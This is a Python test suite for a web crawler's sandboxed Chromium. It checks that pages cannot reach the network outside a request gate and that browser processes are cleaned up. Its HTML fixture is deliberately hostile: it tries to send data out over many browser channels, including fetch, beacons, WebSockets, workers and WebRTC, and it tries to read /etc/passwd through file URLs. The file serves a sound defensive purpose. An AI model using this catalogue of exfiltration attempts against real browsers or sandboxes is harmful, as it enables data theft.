"""A hostile page in a real Chromium reaches nothing: not through the gate, and not around it."""

import asyncio
import os
import signal
import socket
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from crawler.browser.chromium import missing
from crawler.browser.limits import Limits
from crawler.browser.sheet import Denied, Drawn, Given, Sheet, Undrawn, Wanted

pytestmark = pytest.mark.skipif(bool(missing()), reason=missing() or "there is a Chromium")

LIMITS = Limits(seconds=40, frozen=20, quiet=1.5, restless=6)
# Everything a page can send by; OTHER is a port where somebody listens, for TCP and for UDP.
NASTY = """<!DOCTYPE html><html><head>
<link rel="preconnect" href="http://127.0.0.1:OTHER"><link rel="dns-prefetch" href="//out.test">
<link rel="prefetch" href="http://127.0.0.1:OTHER/prefetch">
<link rel="icon" href="http://127.0.0.1:OTHER/icon"><link rel="manifest" href="http://127.0.0.1:OTHER/m">
<style>@import url(http://127.0.0.1:OTHER/css); @font-face { font-family: x;
  src: url(http://127.0.0.1:OTHER/font) } body { font-family: x;
  background: url(http://127.0.0.1:OTHER/background) }</style></head>
<body>text<img src="http://127.0.0.1:OTHER/img"><iframe src="http://127.0.0.1:OTHER/frame"></iframe>
<iframe src="file:///etc/passwd"></iframe><object data="http://localhost:OTHER/o"></object>
<video src="http://[::1]:OTHER/v"></video><script src="http://127.0.0.1:OTHER/script.js"></script>
<script>
const at = '127.0.0.1:OTHER';
const tries = [
  () => fetch('http://' + at + '/fetch'), () => fetch('http://localhost:OTHER/fetch'),
  () => fetch('http://' + at + '/fetch', {mode: 'no-cors', method: 'POST', body: 'x'}),
  () => fetch('file:///etc/passwd').then(r => r.text()).then(t => document.body.append(t)),
  () => navigator.sendBeacon('http://' + at + '/beacon', 'x'),
  () => new WebSocket('ws://' + at + '/socket'), () => new EventSource('http://' + at + '/events'),
  () => { const x = new XMLHttpRequest(); x.open('GET', 'http://' + at + '/xhr'); x.send() },
  () => { new Image().src = 'http://' + at + '/beacon.gif' },
  () => window.open('http://' + at + '/window'),
  () => new WebTransport('https://' + at + '/transport'),
  () => { const code = `fetch('http://${at}/w').catch(() => 0); new WebSocket('ws://${at}/w');
            try { importScripts('http://${at}/i') } catch (e) {}`;
          const blob = URL.createObjectURL(new Blob([code]));
          new Worker(blob); new SharedWorker(blob) },
  () => navigator.serviceWorker.register('/sw.js'),
  () => { const c = document.createElement('iframe'); document.body.append(c);
          new c.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:' + at}]})
            .createDataChannel('x') },
  () => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:' + at},
            {urls: 'turn:' + at, username: 'u', credential: 'p'}]});
          c.createDataChannel('x'); c.createOffer().then(o => c.setLocalDescription(o)) },
  () => { location.href = 'http://' + at + '/away' },
];
for (const one of tries) try { Promise.resolve(one()).catch(() => 0) } catch (e) {}
</script></body></html>"""


@dataclass
class Listener:
    port: int
    heard: list[str] = field(default_factory=list)

    @property
    def page(self) -> bytes:
        return NASTY.replace("OTHER", str(self.port)).encode()


@asynccontextmanager
async def listening() -> AsyncIterator[Listener]:
    """Somebody on loopback who hears every connection and every datagram."""

    class Datagrams(asyncio.DatagramProtocol):
        def datagram_received(self, data: bytes, addr: object) -> None:
            found.heard.append("datagram")

    async def connected(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        found.heard.append(f"connection: {await reader.read(200)!r}")
        writer.close()

    server = await asyncio.start_server(connected, "127.0.0.1", 0)
    found = Listener(server.sockets[0].getsockname()[1])
    loop = asyncio.get_running_loop()
    address = ("127.0.0.1", found.port)
    transport, _ = await loop.create_datagram_endpoint(Datagrams, local_addr=address)
    async with server:
        yield found
    transport.close()


async def test_the_listener_hears() -> None:
    """Otherwise the silence below would prove nothing."""
    async with listening() as other:
        with socket.create_connection(("127.0.0.1", other.port)) as caller:
            caller.send(b"hello")
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as caller:
            caller.sendto(b"hello", ("127.0.0.1", other.port))
        await asyncio.sleep(0.2)
        assert len(other.heard) == 2


async def test_through_the_gate_nothing_passes_that_we_do_not_send() -> None:
    from crawler.browser.easel import Easel

    wanted: list[Wanted] = []

    async def errand(one: Wanted) -> Given | Denied:
        wanted.append(one)
        return Denied("not asked for")

    easel = Easel(LIMITS)
    try:
        async with listening() as other:
            given = Given(200, (("Content-Type", "text/html; charset=utf-8"),), other.page)
            drawn = await easel.draw(Sheet("http://minfin.test/", given), errand)
            assert isinstance(drawn, Drawn), drawn
            assert other.heard == []
            assert f"http://127.0.0.1:{other.port}/away" in drawn.led_to
    finally:
        await easel.close()
    assert {w.kind for w in wanted} >= {"fetch", "xhr", "image", "script"}
    assert b"root:" not in drawn.dom


async def test_around_the_gate_there_is_no_network() -> None:
    """The same page with nobody at the gate: the browser itself cannot connect anywhere."""
    from crawler.browser.easel import Easel

    easel = Easel(LIMITS)
    try:
        async with listening() as other:
            browser = await easel._start()
            context = await browser.new_context()
            page = await context.new_page()
            await page.set_content(other.page.decode(), wait_until="commit")
            await asyncio.sleep(4)
            await browser.close()
            assert other.heard == []
    finally:
        await easel.close()


async def test_nothing_of_the_browser_is_left() -> None:
    from crawler.browser.easel import Easel, _family

    async def errand(_: Wanted) -> Given | Denied:
        return Denied("")

    easel = Easel(LIMITS)
    given = Given(200, (("Content-Type", "text/html"),), b"<p>text")
    assert isinstance(await easel.draw(Sheet("http://a.test/", given), errand), Drawn)
    pid, home = easel._pid, Path(easel._home.name)
    family = {pid, *_family(pid)}
    assert easel._weigh() > 0
    await easel.close()
    gone = [p for p in family if not _alive(p)]
    assert len(gone) == len(family)
    assert not home.exists()


def _alive(pid: int) -> bool:
    """A zombie waits for its parent to look; it runs no more."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] not in "ZX"
    except OSError:
        return False


async def test_a_browser_that_dies_is_a_reason_and_the_next_page_is_drawn() -> None:
    from crawler.browser.easel import Easel

    async def shoot(_: Wanted) -> Given | Denied:
        os.kill(easel._pid, signal.SIGKILL)
        return Denied("")

    easel = Easel(LIMITS)
    html = (("Content-Type", "text/html"),)
    try:
        shot = Sheet("http://a.test/", Given(200, html, b"<p>text<script src=/app.js></script>"))
        died = await easel.draw(shot, shoot)
        assert isinstance(died, Undrawn)
        assert "the browser failed" in died.reason
        sheet = Sheet("http://b.test/", Given(200, html, b"<p>text"))
        assert isinstance(await easel.draw(sheet, shoot), Drawn)
    finally:
        await easel.close()
